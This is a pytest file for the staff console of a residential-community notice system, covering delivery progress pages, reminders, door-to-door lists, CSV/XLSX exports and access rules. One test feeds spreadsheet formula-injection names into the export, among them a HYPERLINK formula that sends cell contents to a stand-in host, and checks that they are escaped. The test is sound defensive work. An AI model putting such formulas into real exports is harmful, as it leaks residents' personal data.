"""How far a notice is, the reminder, the list for the doors and the list to take away, at the console."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import timedelta
from functools import partial
from uuid import UUID

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession

from channels.errors import SendError
from community.actors import StaffActor
from community.audit.models import AuditAct
from community.clock import now
from community.notices.models import Notice, NoticeRecipient, NoticeState, RecipientState
from community.notices.sending.door import Whom, find_door_list, tell_at_door
from community.notices.sending.progress import Counted, count_recipients
from community.notices.sending.rooms import floor_of, read_room
from community.residents.models import Address, AddressState, Resident
from linli.database import Sessions
from tests.cast import Cast
from tests.community.notices.sent import recipients, send_out, settle_crowd
from tests.web.staff.conftest import OpenDesk, actor_of
from web.staff.counts import Counts
from web.words import all_words


@pytest.fixture
async def water(sessions: Sessions, cast: Cast) -> UUID:
    """A notice of which two were delivered; one more person has no address, and wants to be told by somebody."""
    (silent,) = await settle_crowd(sessions, cast, 1)
    async with sessions.begin() as session:
        stopped = update(Address).where(Address.resident_id == silent.resident_id)
        await session.execute(stopped.values(state=AddressState.STOPPED))
        resident = await session.get_one(Resident, silent.resident_id)
        resident.name, resident.phone, resident.room = "陈桂芳", "13800138000", "501"
    notice_id = await send_out(sessions, cast.here, now())
    async with sessions.begin() as session:
        rows = update(NoticeRecipient).where(NoticeRecipient.state == RecipientState.QUEUED)
        await session.execute(rows.values(state=RecipientState.SENT, sent_at=now()))
    return notice_id


async def silent_one(sessions: Sessions, notice_id: UUID) -> NoticeRecipient:
    rows = await recipients(sessions, notice_id)
    return next(row for row in rows.values() if row.reason == "no_address")


async def test_the_page_says_how_far_it_is(water: UUID, cast: Cast, open_desk: OpenDesk) -> None:
    desk = await open_desk(actor_of(cast, "here.committee"))
    page = (await desk.get(f"/staff/notices/{water}/progress")).text
    for words in (
        "停水",
        "<dd>3</dd>",
        "<dd>2 <small>67%</small></dd>",
        "没有微信等联系方式",
        "3号楼",
        "没填住址",
    ):
        assert words in page


async def test_it_is_looked_at_again_as_long_as_something_may_change(
    water: UUID, cast: Cast, open_desk: OpenDesk, sessions: Sessions
) -> None:
    desk, path = await open_desk(actor_of(cast, "here.committee")), f"/staff/notices/{water}/progress"

    async def again(**values: object) -> list[str]:
        async with sessions.begin() as session:
            await session.execute(update(Notice).values(**values))
        return re.findall(r'data-again="(\d+)"', (await desk.get(path)).text)

    assert await again(state=NoticeState.SENDING) == ["4000"]
    assert await again(state=NoticeState.SENT) == ["10000"]  # people confirm it
    begun = now() - timedelta(days=2)
    assert await again(valid_from=begun, valid_until=begun + timedelta(days=1)) == []


async def test_more_buildings_than_bars_are_a_table(
    water: UUID, cast: Cast, open_desk: OpenDesk, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = await open_desk(actor_of(cast, "here.committee"))
    assert "data-chart=" in (await desk.get(f"/staff/notices/{water}/progress")).text
    monkeypatch.setattr("web.staff.notice_progress.MOST_DRAWN", 1)
    page = (await desk.get(f"/staff/notices/{water}/progress")).text
    assert "data-chart=" not in page
    assert "3号楼" in page


async def test_what_is_out_is_called_off_and_its_progress_stays(
    water: UUID, cast: Cast, open_desk: OpenDesk, sessions: Sessions
) -> None:
    desk = await open_desk(actor_of(cast, "here.committee"))
    address = f"/staff/notices/{water}"
    async with sessions.begin() as session:
        (await session.get_one(Notice, water)).state = NoticeState.SENT
    assert f'action="{address}/cancel"' in (await desk.get(address)).text
    await desk.post(f"{address}/cancel", why="日期写错了")
    assert f'href="{address}/progress"' in (await desk.get(address)).text
    assert "已撤回" in (await desk.get(f"{address}/progress")).text


async def test_who_has_not_confirmed_is_reminded_once(
    water: UUID, cast: Cast, open_desk: OpenDesk, sessions: Sessions
) -> None:
    desk = await open_desk(actor_of(cast, "here.committee"))
    await desk.post(f"/staff/notices/{water}/remind")
    assert "今天已经提醒过了" in (await desk.get(f"/staff/notices/{water}/progress")).text
    again = await desk.post(f"/staff/notices/{water}/remind", 422)
    assert "明天可以再提醒" in again.text


async def test_the_door_list_is_ticked_and_a_tick_taken_back(
    water: UUID, cast: Cast, open_desk: OpenDesk, sessions: Sessions
) -> None:
    desk = await open_desk(actor_of(cast, "here.committee"))
    page = (await desk.get(f"/staff/notices/{water}/door")).text
    assert all(words in page for words in ("3号楼2单元", "5 楼", "501 陈桂芳", "tel:13800138000"))
    assert "owner" not in page
    who = (await silent_one(sessions, water)).resident_id
    await desk.post(f"/staff/notices/{water}/told/{who}")
    row = await silent_one(sessions, water)
    assert (row.confirmed_by, row.door_told_by) == ("staff", actor_of(cast, "here.committee").staff_id)
    assert "here.committee 今天" in (await desk.get(f"/staff/notices/{water}/door")).text.replace(
        "banyan", "here"
    )
    await desk.post(f"/staff/notices/{water}/untold/{who}")
    row = await silent_one(sessions, water)
    assert (row.confirmed_at, row.door_told_at, row.door_told_by) == (None, None, None)
    async with sessions() as session:
        acts = set((await session.scalars(select(AuditAct.act))).all())
    assert {"notice_door_list", "notice_told_at_door", "notice_tick_taken_back"} <= acts


async def test_everybody_who_has_not_confirmed_is_another_list(
    water: UUID, cast: Cast, open_desk: OpenDesk
) -> None:
    desk = await open_desk(actor_of(cast, "here.committee"))
    page = (await desk.get(f"/staff/notices/{water}/door?whom=unconfirmed")).text
    assert "3 人，已告知 0 人" in page


async def test_a_long_door_list_is_cut_with_a_word_and_ticks_make_room(
    water: UUID, cast: Cast, open_desk: OpenDesk, sessions: Sessions, monkeypatch: pytest.MonkeyPatch
) -> None:
    actor = actor_of(cast, "here.committee")
    listed = []
    for _ in range(3):
        async with sessions.begin() as session:
            _, [part], everybody = await find_door_list(session, actor, water, Whom.UNCONFIRMED, most=1)
            [(_, [line])] = part.floors
            await tell_at_door(session, actor, water, line.resident.id)
        listed.append(line.resident.id)
        assert everybody == 3
    assert len(set(listed)) == 3
    short = partial(find_door_list, most=1)
    monkeypatch.setattr("web.staff.notice_door.find_door_list", short)
    desk = await open_desk(actor)
    assert (
        "共 3 人，这里是其中 1 人" in (await desk.get(f"/staff/notices/{water}/door?whom=unconfirmed")).text
    )


async def test_the_paper_for_doors_says_the_words_without_marks(
    water: UUID, cast: Cast, open_desk: OpenDesk, sessions: Sessions
) -> None:
    async with sessions.begin() as session:
        (await session.get_one(Notice, water)).text_zh = "**12月1日**停水\n- 请提前存水"
    desk = await open_desk(actor_of(cast, "here.committee"))
    page = (await desk.get(f"/staff/notices/{water}/door")).text
    assert "12月1日停水" in page
    assert "**" not in page.split("door__notice")[1].split("</p>")[0]


async def test_a_room_is_learnt_at_the_door(
    water: UUID, cast: Cast, open_desk: OpenDesk, sessions: Sessions
) -> None:
    desk = await open_desk(actor_of(cast, "here.committee"))
    path = f"/staff/notices/{water}/told/{cast.owner.resident_id}"
    refused = await desk.post(path, 422, room="左手边那户", whom="unconfirmed")
    assert "门牌写成" in refused.text
    assert "左手边那户" in refused.text
    await desk.post(path, room="1203室", whom="unconfirmed")
    async with sessions() as session:
        assert (await session.get_one(Resident, cast.owner.resident_id)).room == "1203"


async def test_the_list_to_take_away(water: UUID, cast: Cast, open_desk: OpenDesk) -> None:
    desk = await open_desk(actor_of(cast, "here.committee"))
    lines = (await desk.get(f"/staff/notices/{water}/people.csv")).text.splitlines()
    assert len(lines) == 4
    assert any("陈桂芳" in line and "没有微信等联系方式" in line for line in lines)
    file = (await desk.get(f"/staff/notices/{water}/people.xlsx")).content
    assert load_workbook(io.BytesIO(file)).active.max_row == 4


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/"&A2,"详情")', "@SUM(1)", " +1-1"])
async def test_a_name_in_the_list_to_take_away_is_no_formula(
    water: UUID, cast: Cast, open_desk: OpenDesk, sessions: Sessions, name: str
) -> None:
    async with sessions.begin() as session:
        silent = await session.get_one(Resident, (await silent_one(sessions, water)).resident_id)
        silent.name = name
    desk = await open_desk(actor_of(cast, "here.committee"))
    content = (await desk.get(f"/staff/notices/{water}/people.csv")).content.decode("utf-8-sig")
    assert f"'{name}" in {row[2] for row in csv.reader(io.StringIO(content))}
    file = (await desk.get(f"/staff/notices/{water}/people.xlsx")).content
    cells = [row[2] for row in load_workbook(io.BytesIO(file)).active.iter_rows()]
    assert [cell.data_type for cell in cells if cell.value == f"'{name}"] == ["s"]


async def test_a_sheet_of_too_many_says_what_to_take_instead(
    water: UUID, cast: Cast, open_desk: OpenDesk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("web.staff.notice_progress.MOST_IN_A_SHEET", 2)
    desk = await open_desk(actor_of(cast, "here.committee"))
    assert "请下载 CSV" in (await desk.get(f"/staff/notices/{water}/people.xlsx", 422)).text
    assert len((await desk.get(f"/staff/notices/{water}/people.csv")).text.splitlines()) == 4


async def test_a_count_of_many_people_is_kept_a_while(
    water: UUID, cast: Cast, sessions: Sessions, monkeypatch: pytest.MonkeyPatch
) -> None:
    counts, actor = Counts(), actor_of(cast, "here.committee")

    async def confirmed() -> int:
        async with sessions.begin() as session:
            found = await counts.find(session, actor, await session.get_one(Notice, water))
            await session.execute(update(NoticeRecipient).values(confirmed_at=now()))
            return found.count.confirmed

    assert [await confirmed(), await confirmed()] == [0, 3]  # few people are counted each time
    async with sessions.begin() as session:
        await session.execute(update(NoticeRecipient).values(confirmed_at=None))
    monkeypatch.setattr("web.staff.counts.MANY", 2)
    monkeypatch.setattr("web.staff.counts.TIMES", 1_000_000.0)
    assert [await confirmed(), await confirmed()] == [0, 0]


async def test_many_who_look_first_at_once_wait_for_one_count(
    water: UUID, cast: Cast, sessions: Sessions, monkeypatch: pytest.MonkeyPatch
) -> None:
    counts, actor, counted = Counts(), actor_of(cast, "here.committee"), list[UUID]()
    all_here = asyncio.Barrier(4)

    async def count(session: AsyncSession, actor: StaffActor, notice: Notice) -> Counted:
        counted.append(notice.id)
        return await count_recipients(session, actor, notice)

    async def look() -> int:
        async with sessions() as session:
            notice = await session.get_one(Notice, water)
            await all_here.wait()
            return (await counts.find(session, actor, notice)).count.people

    monkeypatch.setattr("web.staff.counts.MANY", 2)
    monkeypatch.setattr("web.staff.counts.TIMES", 1_000_000.0)
    monkeypatch.setattr("web.staff.counts.count_recipients", count)
    assert await asyncio.gather(*(look() for _ in range(4))) == [3, 3, 3, 3]
    assert counted == [water]


async def test_names_are_for_the_committee_of_the_community(
    water: UUID, cast: Cast, open_desk: OpenDesk
) -> None:
    street = await open_desk(cast.street)
    page = (await street.get(f"/staff/notices/{water}/progress")).text
    assert "/door" not in page
    for path in ("door", "people.csv", "people.xlsx"):
        await street.get(f"/staff/notices/{water}/{path}", 403)
    other = await open_desk(actor_of(cast, "there.committee"))
    for path in ("progress", "door", "people.csv"):
        await other.get(f"/staff/notices/{water}/{path}", 404)
    await other.post(f"/staff/notices/{water}/remind", 404)


async def test_a_committee_sees_its_own_people_of_a_notice_to_the_street(
    cast: Cast, open_desk: OpenDesk, sessions: Sessions
) -> None:
    notice_id = await send_out(sessions, cast.here, now(), community_id=None, street_id=cast.street.street_id)
    there = await open_desk(actor_of(cast, "there.committee"))
    assert "<dd>1</dd>" in (await there.get(f"/staff/notices/{notice_id}/progress")).text
    page = (await (await open_desk(cast.street)).get(f"/staff/notices/{notice_id}/progress")).text
    assert "榕树社区" in page
    assert "河畔社区" in page
    assert "<dd>3</dd>" in page
    door = (await there.get(f"/staff/notices/{notice_id}/door?whom=unconfirmed")).text
    assert "1 人" in door


async def test_a_notice_that_is_not_out_has_an_empty_list(
    cast: Cast, open_desk: OpenDesk, sessions: Sessions
) -> None:
    notice_id = await send_out(sessions, cast.here, now(), audience={"tags": ["living_alone"]})
    desk = await open_desk(actor_of(cast, "here.committee"))
    assert "名单是空的" in (await desk.get(f"/staff/notices/{notice_id}/progress")).text


@pytest.mark.parametrize("error", SendError)
def test_every_error_of_sending_has_words(error: SendError) -> None:
    assert f"staff_notice_progress.reason_{error.value}" in all_words()


@pytest.mark.parametrize(
    ("room", "floor"), [("501", 5), ("1203", 12), ("12B", 12), (None, None), ("门口", None)]
)
def test_the_floor_is_in_the_room(room: str | None, floor: int | None) -> None:
    assert floor_of(room) == floor


@pytest.mark.parametrize("room", ["501", "0501", "1203", "2501a", "12B", "3a", "5-2", "5楼2", "12层B"])
def test_a_room_is_read_as_it_stands_on_the_door(room: str) -> None:
    assert read_room(f" {room} 室") == room
